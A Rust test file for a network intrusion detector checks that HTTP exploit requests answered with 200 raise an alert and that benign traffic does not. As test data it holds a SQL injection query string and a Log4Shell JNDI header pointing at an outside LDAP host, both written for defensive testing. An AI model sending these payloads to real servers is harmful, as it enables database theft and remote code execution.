//! AN0223 from HTTP in clear alone: requests joined to the answers on their connection.

use serde_json::Value;

use super::frames::{eth, ipv4, tcp};
use super::{START_S, pcap, read};

const CLIENT: [u8; 4] = [203, 0, 113, 9];
const SERVER: [u8; 4] = [10, 0, 3, 21];
const EXPLOIT: &str = "/item?id=1%27%20union%20select%201,2,3--";
const PUSHED: u8 = 0x18;

/// A request, and its answer so much later.
fn exchange(path: &str, header: &str, answer: &str, after_us: i64) -> Vec<u8> {
    let request = format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\n{header}\r\n\r\n");
    let answer = format!("HTTP/1.1 {answer}\r\nContent-Length: 0\r\n\r\n");
    let there = tcp(40_000, 8_080, PUSHED, request.as_bytes());
    let back = tcp(8_080, 40_000, PUSHED, answer.as_bytes());
    let begin_us = START_S * 1_000_000;
    pcap([
        (begin_us, eth(0x0800, &ipv4(6, CLIENT, SERVER, &there))),
        (begin_us + after_us, eth(0x0800, &ipv4(6, SERVER, CLIENT, &back))),
    ])
}

fn found(path: &str, header: &str, answer: &str, after_us: i64) -> Vec<Value> {
    read(&[("capture", &exchange(path, header, answer, after_us))], &[]).1
}

#[test]
fn an0223_stage_one_from_packets_in_clear_alone() {
    const PLAIN: &str = "Accept: */*";
    let padded = format!("/{}?{}", "a".repeat(700), EXPLOIT);
    // In its own second and in the next one.
    for after_us in [2_000, 1_200_000] {
        for (path, header) in [
            (EXPLOIT, PLAIN),
            (padded.as_str(), PLAIN),
            ("/", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}"),
        ] {
            let alerts = found(path, header, "200 OK", after_us);
            let [alert] = &alerts[..] else { panic!("{path:.20} {header}: {alerts:#?}") };
            assert_eq!(alert["detector"], "chain", "{alert:#}");
            assert_eq!(alert["severity"], "informational", "one stage alone");
            let sign = &alert["case"]["timeline"][0];
            assert_eq!(sign["what"], "exploit_request", "{alert:#}");
            assert!(sign["text"].as_str().is_some_and(|text| text.contains("with 200")), "{sign}");
        }
    }
    // What the target did not find is everyday noise, as is what is no exploit; and an
    // answer two seconds later is nobody's.
    assert!(found(EXPLOIT, PLAIN, "404 Not Found", 2_000).is_empty());
    assert!(found("/item?id=7", PLAIN, "200 OK", 2_000).is_empty());
    assert!(found(EXPLOIT, PLAIN, "200 OK", 2_500_000).is_empty());
    let cookie =
        "Cookie: __utmz=1.1772360100.1.1.utmcsr=search|utmccn=(organic)|utmcmd=organic|id=7";
    assert!(found("/", cookie, "200 OK", 2_000).is_empty());
}
